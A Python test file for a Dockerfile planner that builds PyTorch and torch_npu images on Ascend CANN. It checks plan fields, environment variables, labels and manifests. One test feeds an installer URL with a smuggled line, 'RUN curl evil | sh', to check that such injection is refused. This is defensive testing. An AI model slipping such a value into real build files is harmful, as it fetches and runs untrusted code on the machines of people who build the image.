"""builder.build.plan: every decision of a Dockerfile, as a typed value, with exact values
for the demo cell (Debian 12, Python 3.11 venv, torch 2.13.0, CANN 9.0.0 on 910b, x86_64).

URLs are taken from the knowledge base rather than spelled out here; everything else is
written out literally.
"""

from __future__ import annotations

import dataclasses
import json

import pytest

from builder import knowledge, vocabulary
from builder.build import matrix, plan, render
from builder.errors import UserError
from helpers_matrix import SHIPPED_MATRIX, write_cells

DEMO = "cann9.0.0-910b-debian12-py3.11-torch_npu2.13.0-x86_64"
HOME = "/usr/local/Ascend/cann-9.0.0"
DRIVER = "/usr/local/Ascend/driver/lib64"
DIGEST = "0123456789abcdef"
SHIPPED = ("smoke.py", "parsers.py", "error_table.py", "versions.py", "vocabulary.py", "errors.json")
FIELD_GUIDE_ENV = (("ASCEND_GLOBAL_LOG_LEVEL", "3"), ("HCCL_CONNECT_TIMEOUT", "1800"),
                   ("PYTORCH_NPU_ALLOC_CONF", "expandable_segments:True"))


@pytest.fixture(scope="module")
def kb():
    return knowledge.load()


@pytest.fixture(scope="module")
def demo():
    return next(c for c in matrix.load(SHIPPED_MATRIX).cells if c.id == DEMO)


def _values(p: plan.Plan) -> dict:
    return {f.name: getattr(p, f.name) for f in dataclasses.fields(p)}


def _common_labels(variant: str):
    return (
        ("io.ascend-build.cell", DEMO),
        ("io.ascend-build.variant", variant),
        ("io.ascend-build.os", "debian12"),
        ("io.ascend-build.arch", "x86_64"),
        ("io.ascend-build.python", "3.11"),
        ("io.ascend-build.torch", "2.13.0"),
        ("io.ascend-build.content-hash", DIGEST),
    )


def test_the_demo_cells_npu_plan(demo, kb):
    toolkit, ops = kb.installers("9.0.0", "910b", "x86_64")
    assert _values(plan.plan(demo, kb, "npu", DIGEST)) == {
        "cell_id": DEMO,
        "variant": "npu",
        "npu": True,
        "matrix_file": "matrix/default.yaml",
        "dockerfile": "Dockerfile",
        "base_image": "debian:bookworm-slim",
        "wheelhouse": "wheelhouse",
        "installers_folder": "installers",
        "os_family": "apt",
        "os_codename": "bookworm",
        "apt_components": "main",
        "os_packages": ("bash", "ca-certificates", "curl", "unzip", "python3", "python3-venv",
                        "gcc", "g++", "make", "libc6-dev", "libgomp1", "libnuma1"),
        "cann": "9.0.0",
        "chip": "910b",
        "cann_source": "installer",
        "installers": (
            plan.InstallerFile("Ascend-cann-toolkit_9.0.0_linux-x86_64.zip", toolkit.url,
                               "899d3c9b025de694fd0b5337735fa7a0e435fdd49ae811aadb86edf1a12ad059",
                               "Ascend-cann-toolkit_9.0.0_linux-x86_64.run"),
            plan.InstallerFile("Ascend-cann-910b-ops_9.0.0_linux-x86_64.zip", ops.url,
                               "dc21a7823a940e2ab04e624a808d28f43b7a62d3626e8443af38af0f58ddd5fb",
                               "Ascend-cann-910b-ops_9.0.0_linux-x86_64.run"),
        ),
        "cann_env": (
            ("ASCEND_TOOLKIT_HOME", HOME),
            ("ASCEND_HOME_PATH", "${ASCEND_TOOLKIT_HOME}"),
            ("ASCEND_AICPU_PATH", "${ASCEND_TOOLKIT_HOME}"),
            ("ASCEND_OPP_PATH", "${ASCEND_TOOLKIT_HOME}/opp"),
            ("TOOLCHAIN_HOME", "${ASCEND_TOOLKIT_HOME}/toolkit"),
            ("LD_LIBRARY_PATH", "${ASCEND_TOOLKIT_HOME}/lib64:${ASCEND_TOOLKIT_HOME}/lib64/plugin/opskernel:"
                                "${ASCEND_TOOLKIT_HOME}/lib64/plugin/nnengine"),
            ("LD_LIBRARY_PATH", "${LD_LIBRARY_PATH}:${ASCEND_TOOLKIT_HOME}/opp/built-in/op_impl/ai_core/tbe/op_tiling"),
            ("LD_LIBRARY_PATH", f"${{LD_LIBRARY_PATH}}:{DRIVER}:{DRIVER}/common:{DRIVER}/driver"),
            ("PYTHONPATH", "${ASCEND_TOOLKIT_HOME}/python/site-packages:${ASCEND_TOOLKIT_HOME}/opp/built-in/op_impl/ai_core/tbe"),
            ("PATH", "${ASCEND_TOOLKIT_HOME}/bin:${ASCEND_TOOLKIT_HOME}/compiler/ccec_compiler/bin:"
                     "${ASCEND_TOOLKIT_HOME}/tools/ccec_compiler/bin:${PATH}"),
        ),
        "cann_python_packages": ("attrs", "decorator", "sympy", "cffi", "pyyaml", "pathlib2", "psutil",
                                 "protobuf", "scipy", "requests", "absl-py", "numpy"),
        "python": "3.11",
        "env_manager": "venv",
        "env_prefix": "/opt/venv",
        "conda_url": "",
        "conda_sha256": "",
        "torch_requirement": "torch==2.13.0",
        "torch_index": "https://download.pytorch.org/whl/cpu",
        "torch_npu": "2.13.0",
        "torch_npu_requirement": "torch_npu==2.13.0",
        "extra_packages": (),
        "env_vars": FIELD_GUIDE_ENV,
        "tool_dir": "/opt/ascend-build",
        "shipped_files": SHIPPED,
        "manifest_file": "manifest.json",
        "manifest_path": "/etc/ascend-build/manifest.json",
        "env_spec_file": "requirements.txt",
        "env_spec_path": "/etc/ascend-build/requirements.txt",
        "labels": (
            ("org.opencontainers.image.title", f"ascend-build/pytorch:{DEMO}"),
            ("org.opencontainers.image.description", "PyTorch 2.13.0 + torch_npu 2.13.0 on CANN 9.0.0 for 910b"),
            ("org.opencontainers.image.version", DEMO),
            *_common_labels("npu"),
            ("io.ascend-build.cann", "9.0.0"),
            ("io.ascend-build.chip", "910b"),
            ("io.ascend-build.torch-npu", "2.13.0"),
            ("io.ascend-build.min-driver", "25.0.RC1"),
            ("io.ascend-build.min-firmware", ""),
        ),
        "steps": ("os", "cann", "python", "cann-python", "torch", "torch_npu", "env", "files"),
    }


def test_the_demo_cells_cpu_twin_plan(demo, kb):
    assert _values(plan.plan(demo, kb, "cpu", DIGEST)) == {
        "cell_id": DEMO,
        "variant": "cpu",
        "npu": False,
        "matrix_file": "matrix/default.yaml",
        "dockerfile": "Dockerfile.cpu",
        "base_image": "debian:bookworm-slim",
        "wheelhouse": "wheelhouse",
        "installers_folder": "installers",
        "os_family": "apt",
        "os_codename": "bookworm",
        "apt_components": "main",
        "os_packages": ("bash", "ca-certificates", "curl", "python3", "python3-venv", "libgomp1"),
        "cann": "",
        "chip": "",
        "cann_source": "",
        "installers": (),
        "cann_env": (),
        "cann_python_packages": (),
        "python": "3.11",
        "env_manager": "venv",
        "env_prefix": "/opt/venv",
        "conda_url": "",
        "conda_sha256": "",
        "torch_requirement": "torch==2.13.0",
        "torch_index": "https://download.pytorch.org/whl/cpu",
        "torch_npu": "",
        "torch_npu_requirement": "",
        "extra_packages": (),
        "env_vars": FIELD_GUIDE_ENV,
        "tool_dir": "/opt/ascend-build",
        "shipped_files": SHIPPED,
        "manifest_file": "manifest.cpu.json",
        "manifest_path": "/etc/ascend-build/manifest.json",
        "env_spec_file": "requirements.cpu.txt",
        "env_spec_path": "/etc/ascend-build/requirements.txt",
        "labels": (
            ("org.opencontainers.image.title", f"ascend-build/pytorch:{DEMO}-cpu"),
            ("org.opencontainers.image.description", f"CPU twin of {DEMO}: PyTorch 2.13.0 without CANN"),
            ("org.opencontainers.image.version", f"{DEMO}-cpu"),
            *_common_labels("cpu"),
        ),
        "steps": ("os", "python", "torch", "env", "files"),
    }


def test_derived_values(demo, kb):
    npu, cpu = (plan.plan(demo, kb, v, DIGEST) for v in vocabulary.VARIANTS)
    assert npu.pins == ("torch==2.13.0", "torch_npu==2.13.0")
    assert cpu.pins == ("torch==2.13.0",)
    assert (npu.number("os"), npu.number("torch"), npu.number("files")) == (1, 5, 8)
    assert (cpu.number("os"), cpu.number("torch"), cpu.number("files")) == (1, 3, 5)
    assert npu.wheelhouse_glob == "wheelhous[e]"  # matches the folder, or nothing
    with pytest.raises(ValueError):
        cpu.number("torch_npu")


def test_a_plan_is_frozen_and_variants_are_checked(demo, kb):
    p = plan.plan(demo, kb, "cpu", DIGEST)
    with pytest.raises(dataclasses.FrozenInstanceError):
        p.base_image = "other:1"  # type: ignore[misc]
    with pytest.raises(ValueError, match="unknown variant"):
        plan.plan(demo, kb, "gpu", DIGEST)


def test_final_env_is_literal(demo):
    """What the manifest records: Docker's expansion of ${ASCEND_TOOLKIT_HOME} and of the
    LD_LIBRARY_PATH built up in three lines; PATH (refers to the base image's) left out."""
    assert plan.final_env(demo, "npu") == {
        "ASCEND_TOOLKIT_HOME": HOME,
        "ASCEND_HOME_PATH": HOME,
        "ASCEND_AICPU_PATH": HOME,
        "ASCEND_OPP_PATH": f"{HOME}/opp",
        "TOOLCHAIN_HOME": f"{HOME}/toolkit",
        "LD_LIBRARY_PATH": f"{HOME}/lib64:{HOME}/lib64/plugin/opskernel:{HOME}/lib64/plugin/nnengine:"
                           f"{HOME}/opp/built-in/op_impl/ai_core/tbe/op_tiling:{DRIVER}:{DRIVER}/common:{DRIVER}/driver",
        "PYTHONPATH": f"{HOME}/python/site-packages:{HOME}/opp/built-in/op_impl/ai_core/tbe",
        "ASCEND_GLOBAL_LOG_LEVEL": "3",
        "HCCL_CONNECT_TIMEOUT": "1800",
        "PYTORCH_NPU_ALLOC_CONF": "expandable_segments:True",
    }
    assert plan.final_env(demo, "cpu") == dict(FIELD_GUIDE_ENV)
    tuned = dataclasses.replace(demo, env_vars=(("LD_LIBRARY_PATH", "/opt/mine"),))
    assert plan.final_env(tuned, "npu")["LD_LIBRARY_PATH"] == "/opt/mine"  # the cell's value wins
    assert plan.manifest(demo, "npu", DIGEST)["env"] == plan.final_env(demo, "npu")


def test_manifest_names_the_twin_by_its_release_tag(demo):
    npu, cpu = plan.manifest(demo, "npu", DIGEST), plan.manifest(demo, "cpu", DIGEST)
    assert (npu["image"], cpu["image"]) == (f"ascend-build/pytorch:{DEMO}", f"ascend-build/pytorch:{DEMO}-cpu")
    assert (cpu["chip"], cpu["cann_version"], cpu["torch_npu_version"], cpu["min_driver"]) == (None, None, None, None)
    assert (npu["content_hash"], cpu["content_hash"]) == (DIGEST, DIGEST)


def test_other_sources_and_extras(tmp_path, kb):
    ref = "local/cann:8.0.rc3@sha256:" + "1" * 64
    path, _ = write_cells(
        tmp_path,
        {"name": "img", "os": "ubuntu22.04", "arch": "aarch64", "chip": "910b", "cann": "8.0.RC3", "python": "3.10",
         "torch_npu": "2.4.0", "cann_source": {"image": ref}, "pip": ["six==1.16.0"], "base_image": "local/ubuntu:22.04"},
        {"name": "euler", "os": "openeuler22.03", "arch": "aarch64", "chip": "910b", "cann": "8.0.RC3", "python": "3.9",
         "torch_npu": "2.4.0"})
    image, euler = matrix.load(path).cells
    npu, cpu = plan.plan(image, kb, "npu", DIGEST), plan.plan(image, kb, "cpu", DIGEST)
    assert (npu.base_image, npu.cann_source, npu.installers) == (ref, "image", ())
    assert cpu.base_image == "local/ubuntu:22.04"  # the twin has no CANN: it starts from the OS
    assert npu.steps == ("os", "cann", "python", "cann-python", "torch", "torch_npu", "extras", "env", "files")
    assert cpu.steps == ("os", "python", "torch", "extras", "env", "files")
    assert (npu.torch_requirement, npu.torch_index) == ("torch==2.4.0", "")  # aarch64: PyPI
    assert npu.pins == ("torch==2.4.0", "torch_npu==2.4.0", "six==1.16.0")
    conda = kb.conda_installer("aarch64")
    e = plan.plan(euler, kb, "cpu", DIGEST)
    assert (e.os_family, e.env_manager, e.env_prefix) == ("dnf", "conda", "/opt/conda/envs/ascend")
    assert (e.conda_url, e.conda_sha256) == (conda.url, conda.sha256)
    assert (e.env_spec_file, e.env_spec_path) == ("environment.cpu.yml", "/etc/ascend-build/environment.yml")


def test_knowledge_base_values_are_checked_again(demo, kb):
    """A value from builder/data/ that could change a Dockerfile's structure is refused."""

    class Hostile:
        def __getattr__(self, name):
            return getattr(kb, name)

        def installers(self, cann, chip, arch):
            first, *rest = kb.installers(cann, chip, arch)
            return [dataclasses.replace(first, url=first.url + "'\nRUN curl evil | sh"), *rest]

    with pytest.raises(UserError, match="installer URL"):
        plan.plan(demo, Hostile(), "npu", DIGEST)
    assert plan.plan(demo, Hostile(), "cpu", DIGEST).installers == ()  # the twin has none to refuse


def test_formatting_asks_the_knowledge_base_nothing(demo, kb, monkeypatch):
    """Once planned, the Dockerfile and env spec are made from the plan alone."""
    p = plan.plan(demo, kb, "npu", render.content_hash(demo))

    def refuse(*args, **kwargs):
        raise AssertionError("the knowledge base was asked while formatting")

    monkeypatch.setattr(knowledge, "load", refuse)
    assert render.dockerfile(p) == render.render_cell(demo, kb)["Dockerfile"]
    assert render.env_spec(p) == b"# Generated by ascend-build: the environment of this image.\n" \
                                 b"# python==3.11 (venv)\ntorch==2.13.0\ntorch_npu==2.13.0\n"


def test_render_writes_what_the_plans_say(demo, kb):
    files = render.render_cell(demo, kb)
    digest = render.content_hash(demo)
    for variant in vocabulary.VARIANTS:
        p = plan.plan(demo, kb, variant, digest)
        assert files[p.dockerfile] == render.dockerfile(p)
        assert json.loads(files[p.manifest_file]) == plan.manifest(demo, variant, digest)
        assert files[p.env_spec_file] == render.env_spec(p)
    assert set(vocabulary.SHIPPED_FILES) <= set(files)
